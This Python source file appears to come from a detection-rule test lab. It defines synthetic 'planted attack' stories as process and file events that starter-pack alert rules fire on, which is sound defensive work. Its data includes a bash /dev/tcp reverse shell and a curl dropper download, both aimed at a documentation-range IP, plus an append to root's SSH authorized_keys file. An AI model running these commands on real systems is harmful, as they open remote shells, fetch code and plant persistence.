"""Planted attacks: small stories that rules of the starter pack raise alerts on, and only those that are named here.

Nothing in them is real: addresses are of the ranges for documentation (RFC 5737), the file names say what they are.
"""

from __future__ import annotations

from dataclasses import dataclass

from kestrel_lab.synth.programs import Program

PEER = "203.0.113.66"
PORT = 4444
DROPPED = "/tmp/synthetic-dropper"
KEYS = "/root/.ssh/authorized_keys"
_S = 1_000_000_000


@dataclass(frozen=True, slots=True)
class StoryRow:
    """A process of a story, forked by the standing process that the story belongs to; times in thousandths."""

    program: Program
    fork: int
    exec: int
    end: int


@dataclass(frozen=True, slots=True)
class StoryAct:
    """An act of a story: who (a row, -1 for the standing process), which action, when, on which path."""

    row: int
    table: str
    action: str
    at: int
    path: str = ""


@dataclass(frozen=True, slots=True)
class Story:
    """A story: its name, whose it is (see `programs.STANDING`), how long it lasts in ns, the ids of the rules of the
    starter pack that alert on it, each once."""

    name: str
    of: str
    lasts: int
    rules: tuple[str, ...]
    rows: tuple[StoryRow, ...]
    acts: tuple[StoryAct, ...]


def _program(name: str, executable: str, *args: str) -> Program:
    return Program(name, executable, (args,))


STORIES: tuple[Story, ...] = (
    Story(
        "dropper", "shell", 2 * _S,
        ("dropped-file-executed", "execution-from-temporary-folder", "executed-file-deleted",
         "temporary-program-connects-out"),
        (StoryRow(_program("curl", "/usr/bin/curl", "curl", "-o", DROPPED, f"http://{PEER}/a"), 0, 10, 300),
         StoryRow(_program("synthetic-dropper", DROPPED, DROPPED), 400, 410, 800),
         StoryRow(_program("rm", "/usr/bin/rm", "rm", DROPPED), 820, 830, 1000)),
        (StoryAct(0, "file", "creation", 100, DROPPED), StoryAct(0, "file", "modification", 150, DROPPED),
         StoryAct(1, "network", "connection_attempted", 500), StoryAct(2, "file", "deletion", 900, DROPPED)),
    ),
    Story(
        "reverse shell", "shell", 5 * _S,
        ("shell-dev-tcp", "shell-command-connects-out", "shell-network-connection"),
        (StoryRow(_program("bash", "/usr/bin/bash", "bash", "-c", f"bash -i >& /dev/tcp/{PEER}/{PORT} 0>&1"),
                  0, 10, 1000),),
        (StoryAct(0, "network", "connection_attempted", 100),),
    ),
    Story(
        "web shell", "web", _S,
        ("web-server-starts-shell", "accepted-connection-starts-shell"),
        (StoryRow(_program("dash", "/usr/bin/dash", "sh", "-c", "id; ls /srv"), 100, 120, 1000),),
        (StoryAct(-1, "network", "connection_accepted", 10),),
    ),
    Story(
        "key added", "shell", _S,
        ("ssh-authorized-keys-written",),
        (StoryRow(_program("tee", "/usr/bin/tee", "tee", "-a", KEYS), 0, 10, 1000),),
        (StoryAct(0, "file", "open", 300, KEYS), StoryAct(0, "file", "modification", 400, KEYS)),
    ),
)  # fmt: skip
